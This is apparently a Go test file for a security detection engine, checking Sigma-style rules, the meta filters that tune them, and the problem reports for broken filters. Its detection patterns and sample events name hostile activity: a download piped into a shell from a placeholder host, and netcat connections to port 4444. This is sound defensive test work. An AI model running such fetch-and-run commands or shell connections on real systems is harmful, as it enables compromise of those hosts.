package ruleset_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/vigilsec/vigil/internal/detect/ruleset"
)

const (
	pipeID     = "a1111111-1111-4111-8111-111111111111"
	cronID     = "a2222222-2222-4222-8222-222222222222"
	portID     = "a3333333-3333-4333-8333-333333333333"
	backupID   = "a4444444-4444-4444-8444-444444444444"
	loginID    = "a5555555-5555-4555-8555-555555555555"
	guessingID = "a6666666-6666-4666-8666-666666666666"

	jobsFilterID    = "f1111111-1111-4111-8111-111111111111"
	probesFilterID  = "f2222222-2222-4222-8222-222222222222"
	privateFilterID = "f3333333-3333-4333-8333-333333333333"
	wrongFieldID    = "f4444444-4444-4444-8444-444444444444"
	wrongSourceID   = "f5555555-5555-4555-8555-555555555555"
	badConditionID  = "f6666666-6666-4666-8666-666666666666"
	onCorrelationID = "f7777777-7777-4777-8777-777777777777"
	scannerFilterID = "f8888888-8888-4888-8888-888888888888"
)

// filterFiles are rules, the meta filters that tune them (by id, name and
// title, with Sigma and ECS field names), filters that cannot be applied,
// and rule tests in the format of the rule pack.
var filterFiles = fstest.MapFS{
	"rules/process.yml": {Data: []byte(`title: Download piped into a shell
id: ` + pipeID + `
name: curl_pipe_shell
level: high
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: ['curl ', '| sh']
  condition: selection
---
title: Shell started by cron
id: ` + cronID + `
level: medium
logsource: {product: linux, category: process_creation}
detection:
  selection:
    ParentImage|endswith: /cron
    Image|endswith: [/sh, /bash]
  condition: selection
---
title: Program run by the backup account
id: ` + backupID + `
level: low
logsource: {product: linux, category: process_creation}
detection:
  selection:
    User: backup
  condition: selection
`)},
	"rules/network.yml": {Data: []byte(`title: Connection to port 4444
id: ` + portID + `
level: high
logsource: {product: linux, category: network_connection}
detection:
  selection:
    DestinationPort: 4444
  condition: selection
`)},
	"rules/ssh.yml": {Data: []byte(`title: SSH login failed
id: ` + loginID + `
name: login_failed
level: low
logsource: {product: linux, service: authlog}
detection:
  selection: {event.action: login-failed}
  condition: selection
---
title: Password guessing
id: ` + guessingID + `
level: high
correlation:
  type: event_count
  rules: [login_failed]
  group-by: [source.ip]
  timespan: 1m
  condition: {gte: 3}
`)},
	"filters/mf_tuning.yml": {Data: []byte(`title: The backup job
id: ` + jobsFilterID + `
description: cron runs the backup script as the backup user; it pipes a download into sh
logsource: {product: linux, category: process_creation}
filter:
  rules:
    - curl_pipe_shell
    - Shell started by cron
  backup_job:
    User: backup
    ParentImage|endswith: /cron
  condition: not backup_job
---
title: Monitoring probes
id: ` + probesFilterID + `
logsource: {product: linux}
filter:
  rules: [` + portID + `]
  probe:
    Image|endswith: /check_tcp
  condition: not probe
---
title: Private peers
id: ` + privateFilterID + `
logsource: {product: linux, category: network_connection}
filter:
  rules:
    - ` + portID + `
    - no-such-rule
  private:
    DestinationIp|cidr: 10.0.0.0/8
  condition: not private
---
title: Our scanner
id: ` + scannerFilterID + `
logsource: {product: linux, service: authlog}
filter:
  rules: [login_failed]
  scanner:
    source.ip: 192.0.2.50
  condition: not scanner
`)},
	"filters/mf_broken.yml": {Data: []byte(`title: Field of another log source
id: ` + wrongFieldID + `
logsource: {product: linux}
filter:
  rules: [` + pipeID + `]
  sel:
    TargetFilename|endswith: .sh
  condition: not sel
---
title: Log source of another kind
id: ` + wrongSourceID + `
logsource: {product: linux, category: network_connection}
filter:
  rules: [` + pipeID + `]
  sel:
    DestinationPort: 443
  condition: not sel
---
title: Bad condition
id: ` + badConditionID + `
logsource: {product: linux}
filter:
  rules: [` + pipeID + `]
  sel: {User: root}
  condition: not (sel
---
title: On a correlation
id: ` + onCorrelationID + `
logsource: {product: linux}
filter:
  rules: [Password guessing]
  sel: {source.ip: 192.0.2.1}
  condition: not sel
`)},
	"rules/process.test.yml": {Data: []byte(`cases:
  - name: a user pipes a download into sh
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash -c curl -s https://x.example/i | sh",
                  parent: {executable: /usr/bin/bash}}
        user: {name: alice}
    alerts:
      - rule: ` + pipeID + `
        count: 1
  - name: the backup job started by cron is filtered from both rules it names, not from the third
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash -c curl -s https://backup.example/run | sh",
                  parent: {executable: /usr/sbin/cron}}
        user: {name: backup}
    alerts:
      - rule: ` + backupID + `
        count: 1
  - name: a shell of root started by cron is not the backup job
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash /etc/cron.daily/x", parent: {executable: /usr/sbin/cron}}
        user: {name: root}
    alerts:
      - rule: ` + cronID + `
        count: 1
`)},
	"rules/network.test.yml": {Data: []byte(`cases:
  - name: netcat to a public peer
    events:
      - event: {category: network, action: connection-attempted}
        process: {executable: /usr/bin/nc.openbsd}
        destination: {ip: 198.51.100.9, port: 4444}
    alerts:
      - rule: ` + portID + `
        count: 1
  - name: the monitoring probe and a private peer are filtered
    events:
      - event: {category: network, action: connection-attempted}
        process: {executable: /usr/lib/nagios/plugins/check_tcp}
        destination: {ip: 198.51.100.9, port: 4444}
      - event: {category: network, action: connection-attempted}
        process: {executable: /usr/bin/nc.openbsd}
        destination: {ip: 10.1.2.3, port: 4444}
    alerts: []
`)},
	"rules/ssh.test.yml": {Data: []byte(`cases:
  - name: three failures from one source
    events:
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.1}}
    alerts:
      - rule: ` + guessingID + `
        count: 1
  - name: the filter acts before the correlation counts
    events:
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.50}}
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.50}}
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.50}}
      - {event: {category: authentication, action: login-failed, dataset: authlog}, source: {ip: 192.0.2.50}}
    alerts: []
`)},
}

func loadFilters(t *testing.T, settings map[string]ruleset.Setting) *ruleset.RuleSet {
	t.Helper()
	return ruleset.Load([]ruleset.Source{{Name: "imported", FS: filterFiles, Root: "."}}, ruleset.Options{Settings: settings})
}

// TestFiltersEndToEnd runs the rule tests: events in, alerts out.
func TestFiltersEndToEnd(t *testing.T) {
	rs := loadFilters(t, nil)
	results := ruleset.RunTests(rs, filterFiles, ".")
	if len(results) != 7 {
		t.Fatalf("%d results", len(results))
	}
	for _, r := range results {
		if r.Err != nil {
			t.Errorf("%s:%d %s: %v", r.File, r.Line, r.Case, r.Err)
		}
	}
	suppressed := map[string]uint64{}
	for _, r := range rs.Rules {
		if r.Kind == ruleset.KindFilter {
			suppressed[r.ID] = r.Suppressed()
		}
	}
	// The backup job was one match of each of two rules; the probe and
	// the private peer one each; the scanner four failures.
	want := map[string]uint64{jobsFilterID: 2, probesFilterID: 1, privateFilterID: 1, scannerFilterID: 4}
	for id, n := range want {
		if suppressed[id] != n {
			t.Errorf("filter %s suppressed %d matches, want %d", id, suppressed[id], n)
		}
	}
}

// TestFilterProblems: every filter that cannot be used is a problem with
// its file, line and reason; the rules it names still work.
func TestFilterProblems(t *testing.T) {
	rs := loadFilters(t, nil)
	type want struct {
		file   string
		line   int
		id     string
		reason string
	}
	wants := []want{
		{"filters/mf_broken.yml", 7, wrongFieldID, "meta filter not applied to rule " + pipeID + " (Download piped into a shell): field TargetFilename has no mapping for linux/process_creation"},
		{"filters/mf_broken.yml", 12, wrongSourceID, "the filter's logsource linux/network_connection does not cover the rule's (linux/process_creation)"},
		{"filters/mf_broken.yml", 25, badConditionID, "unexpected end"},
		{"filters/mf_broken.yml", 31, onCorrelationID, `filter names correlation rule "Password guessing"`},
		{"filters/mf_tuning.yml", 29, privateFilterID, `filter names "no-such-rule", which is not the id, name or title of a loaded detection rule`},
	}
	if len(rs.Problems) != len(wants) {
		for _, p := range rs.Problems {
			t.Log(p.Error())
		}
		t.Fatalf("%d problems, want %d", len(rs.Problems), len(wants))
	}
	for i, w := range wants {
		p := rs.Problems[i]
		if p.File != w.file || p.Line != w.line || p.RuleID != w.id || !strings.Contains(p.Reason, w.reason) || p.Source != "imported" {
			t.Errorf("problem %d: %s, want %s:%d: %s: %s", i, p.Error(), w.file, w.line, w.id, w.reason)
		}
	}
	// Every detection rule is loaded, and the filters that apply to none
	// are only problems.
	kinds := map[string]string{}
	for _, r := range rs.Rules {
		kinds[r.ID] = r.Kind
	}
	for _, id := range []string{pipeID, cronID, portID, backupID, loginID} {
		if kinds[id] != ruleset.KindDetection {
			t.Errorf("rule %s: kind %q", id, kinds[id])
		}
	}
	for _, id := range []string{jobsFilterID, probesFilterID, privateFilterID, scannerFilterID} {
		if kinds[id] != ruleset.KindFilter {
			t.Errorf("filter %s: kind %q", id, kinds[id])
		}
	}
	for _, id := range []string{wrongFieldID, wrongSourceID, badConditionID, onCorrelationID} {
		if _, ok := kinds[id]; ok {
			t.Errorf("filter %s is listed, yet applies to no rule", id)
		}
	}
}

// TestFilterListing shows which filters apply to each rule, and which
// rules each filter applies to.
func TestFilterListing(t *testing.T) {
	refs := func(list []ruleset.RuleRef) []string {
		var out []string
		for _, r := range list {
			out = append(out, r.ID)
			if r.File == "" || r.Line == 0 || r.Title == "" {
				t.Errorf("reference without place or title: %+v", r)
			}
		}
		return out
	}
	tests := []struct {
		name             string
		settings         map[string]ruleset.Setting
		filters, applies map[string][]string
		disabled         []string
	}{
		{
			name: "all enabled",
			filters: map[string][]string{
				pipeID: {jobsFilterID}, cronID: {jobsFilterID}, portID: {probesFilterID, privateFilterID},
				backupID: nil, loginID: {scannerFilterID}, guessingID: nil,
			},
			applies: map[string][]string{
				jobsFilterID: {pipeID, cronID}, probesFilterID: {portID}, privateFilterID: {portID}, scannerFilterID: {loginID},
			},
		},
		{
			name:     "a filter switched off",
			settings: map[string]ruleset.Setting{jobsFilterID: {Disabled: true}, portID: {Disabled: true}},
			// A disabled filter, and the filters of a disabled rule, list
			// the rules they would apply to.
			filters:  map[string][]string{pipeID: nil, cronID: nil, portID: {probesFilterID, privateFilterID}},
			applies:  map[string][]string{jobsFilterID: {pipeID, cronID}, probesFilterID: {portID}, scannerFilterID: {loginID}},
			disabled: []string{jobsFilterID, portID},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rs := loadFilters(t, tc.settings)
			byID := map[string]*ruleset.Rule{}
			for _, r := range rs.Rules {
				byID[r.ID] = r
			}
			for id, want := range tc.filters {
				if got := refs(byID[id].Filters); !slices.Equal(got, want) {
					t.Errorf("rule %s: filters %q, want %q", id, got, want)
				}
			}
			for id, want := range tc.applies {
				if got := refs(byID[id].AppliesTo); !slices.Equal(got, want) {
					t.Errorf("filter %s: applies to %q, want %q", id, got, want)
				}
			}
			for _, id := range tc.disabled {
				if !byID[id].Disabled {
					t.Errorf("%s is not disabled", id)
				}
			}
			if f := byID[jobsFilterID]; f.Alerts || f.Correlated || f.Logsource.Category != "process_creation" || f.Source != "imported" ||
				f.File != "filters/mf_tuning.yml" || f.Line != 1 || f.Description == "" {
				t.Errorf("filter listed as %+v", f)
			}
		})
	}
	// With the filter off, the backup job fires both rules it named.
	rs := loadFilters(t, map[string]ruleset.Setting{jobsFilterID: {Disabled: true}})
	tf, err := ruleset.ParseTestFile(filterFiles["rules/process.test.yml"].Data)
	if err != nil {
		t.Fatal(err)
	}
	res := rs.RunCase(tf.Cases[1])
	if res.Fired[pipeID] != 1 || res.Fired[cronID] != 1 || res.Fired[backupID] != 1 {
		t.Errorf("with the filter disabled: fired %v", res.Fired)
	}
}

// TestFilterAcrossSources: an operator's imported filter tunes a shipped
// rule, which stays as it is.
func TestFilterAcrossSources(t *testing.T) {
	imported := fstest.MapFS{"mf_installer.yml": {Data: []byte(`title: The installer of our build hosts
id: f9999999-9999-4999-8999-999999999999
logsource: {product: linux, category: process_creation}
filter:
  rules: [Download piped into a shell]
  installer:
    CommandLine|contains: 'https://sh.rustup.rs'
  condition: not installer
`)}}
	rs := ruleset.Load([]ruleset.Source{
		{Name: "builtin", FS: files, Root: "."},
		{Name: "imported", FS: imported, Root: "."},
	}, ruleset.Options{})
	for _, p := range rs.Problems {
		if p.Source == "imported" {
			t.Errorf("imported: %s", p.Error())
		}
	}
	var curl, filter *ruleset.Rule
	for _, r := range rs.Rules {
		switch r.ID {
		case curlID:
			curl = r
		case "f9999999-9999-4999-8999-999999999999":
			filter = r
		}
	}
	if curl == nil || filter == nil || len(curl.Filters) != 1 || curl.Filters[0].File != "mf_installer.yml" ||
		filter.Source != "imported" || len(filter.AppliesTo) != 1 || filter.AppliesTo[0].ID != curlID || curl.Source != "builtin" {
		t.Fatalf("rule %+v, filter %+v", curl, filter)
	}
	tf, err := ruleset.ParseTestFile([]byte(`cases:
  - name: rustup
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash -c curl https://sh.rustup.rs | sh"}
    alerts: []
  - name: anything else
    events:
      - event: {category: process, action: exec}
        process: {executable: /usr/bin/bash, command_line: "bash -c curl https://x.example/i | sh"}
    alerts:
      - rule: ` + curlID + `
`))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range tf.Cases {
		if r := rs.RunCase(c); r.Err != nil {
			t.Errorf("%s: %v", c.Name, r.Err)
		}
	}
	if filter.Suppressed() != 1 {
		t.Errorf("the filter suppressed %d matches, want 1", filter.Suppressed())
	}
}
